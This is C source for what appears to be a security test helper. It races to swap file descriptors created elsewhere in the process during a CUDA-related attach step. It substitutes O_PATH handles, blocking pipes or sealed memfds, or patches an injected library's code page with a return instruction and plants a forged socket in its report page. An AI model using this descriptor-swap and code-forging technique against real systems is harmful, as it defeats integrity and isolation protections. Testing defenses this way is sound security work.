/* Replaces every file that somebody else creates in this process: the attack on attaching.
 *
 *   swaps FILE SOCKET
 *
 * Threads wait for a new descriptor and put another in its place, as fast as they can. Writes "ready", and reads a line for
 * each try, which says what to put there: `path`, FILE without any right to it (O_PATH); `pipe`, which blocks who reads; `same`,
 * a sealed memory file of the same name. `forge` leaves the file, but answers in place of the code that it contains, with a
 * connection to the service at SOCKET. Writes `swapped N`, the number of files that were seen in the
 * try before. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "cuda.h"

enum { THREADS = 4 };

static int service;
static atomic_int number = -1, other = -1, same, forges, swapped, tries;

static int sealed(int created) {
    char link[64], name[256] = "";
    snprintf(link, sizeof link, "/proc/self/fd/%d", created);
    if (readlink(link, name, sizeof name - 1) < 0) return -1;
    char *end = strstr(name, " (deleted)");
    if (strncmp(name, "/memfd:", 7) || !end) return -1;
    *end = 0;
    int file = memfd_create(name + 7, MFD_ALLOW_SEALING);
    if (file >= 0) fcntl(file, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_GROW | F_SEAL_SHRINK);
    return file;
}

/* The file has the library, a page of code, a page of data, and a page for the report. */
static void forge(int created) {
    int file = dup(created), try = tries;
    struct stat info = {0};
    char byte = 0;
    while (try == tries && (!info.st_size || pread(file, &byte, 1, info.st_size - 3 * 4096) != 1 || !byte)) fstat(file, &info);
    // The new thread returns at once.
    if (pwrite(file, "\xc3", 1, info.st_size - 3 * 4096) != 1) return;
    long report[2] = {2, service};
    if (pwrite(file, report, sizeof report, info.st_size - 4096) != sizeof report) return;
    close(file);
}

static void *swap(void *unused) {
    (void)unused;
    for (;;) {
        int created = number;
        if (created < 0 || fcntl(created, F_GETFD) < 0) continue;
        if (forges) {
            if (atomic_compare_exchange_strong(&number, &created, -1)) {
                swapped++;
                forge(created);
            }
            continue;
        }
        int file = same ? sealed(created) : (int)other;
        // It stays in place until the next try.
        if (file >= 0 && atomic_compare_exchange_strong(&number, &created, -1) && dup2(file, created) == created) swapped++;
        if (same && file >= 0) close(file);
    }
    return NULL;
}

int main(int count, char **arguments) {
    pthread_t thread;
    char line[32];
    int ends[2], next = -1;
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    if (count != 3 || cuInit(0) || pipe(ends)) return 2;
    strncpy(name.sun_path, arguments[2], sizeof name.sun_path - 1);
    service = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(service, (struct sockaddr *)&name, sizeof name)) return 4;
    int path = open(arguments[1], O_PATH);
    if (path < 0) return 3;
    for (int i = 0; i < THREADS; i++) pthread_create(&thread, NULL, swap, NULL);
    puts("ready");
    fflush(stdout);
    while (read(0, line, sizeof line) > 0) {
        number = -1;
        tries++;
        usleep(10000);
        if (next >= 0) close(next);
        printf("swapped %d\n", atomic_exchange(&swapped, 0));
        same = !strncmp(line, "same", 4);
        forges = !strncmp(line, "forge", 5);
        other = !strncmp(line, "path", 4) ? path : ends[0];
        // The number that the next file gets.
        next = dup(0);
        close(next);
        number = next;
        fflush(stdout);
    }
    return 0;
}
